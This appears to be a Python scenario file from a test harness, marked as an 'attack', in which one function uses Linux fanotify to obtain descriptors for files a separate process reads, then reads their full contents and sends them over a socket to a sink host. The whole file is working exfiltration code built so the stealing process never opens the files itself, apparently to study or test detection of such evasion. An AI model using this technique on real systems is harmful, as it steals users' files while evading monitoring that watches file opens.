# SPDX-License-Identifier: GPL-3.0-or-later
"""It opens nothing: a stranger uses the files, and the kernel hands an on-access scanner their descriptors."""
import ctypes
import os
import random
import socket
import struct
import time

KIND = "attack"
FAN_CLOSE_NOWRITE, FAN_MARK_ADD, FAN_CLOEXEC = 0x10, 1, 1
AT_FDCWD = -100


def stranger(world):
    open(os.path.join(world["scratch"], "ready"), "w").close()
    while not os.path.exists(os.path.join(world["scratch"], "marked")):
        time.sleep(0.05)
    for path in world["files"]:
        with open(path, "rb") as file:
            file.read(1)


def product(world):
    libc = ctypes.CDLL(None, use_errno=True)
    group = libc.fanotify_init(FAN_CLOEXEC, os.O_RDONLY)
    for path in world["files"]:
        if libc.fanotify_mark(group, FAN_MARK_ADD, ctypes.c_uint64(FAN_CLOSE_NOWRITE), AT_FDCWD, os.fsencode(path)):
            raise OSError(ctypes.get_errno(), path)
    open(os.path.join(world["scratch"], "marked"), "w").close()
    left = len(world["files"])
    with socket.create_connection(random.Random(world["seed"]).choice(world["sinks"])) as sock:
        while left:
            events, at = os.read(group, 4096), 0
            while at < len(events):
                length, _, _, _, _, fd, _ = struct.unpack_from("IBBHQii", events, at)
                size = os.fstat(fd).st_size
                sock.sendall(os.pread(fd, size, 0))
                os.close(fd)
                at, left = at + length, left - 1
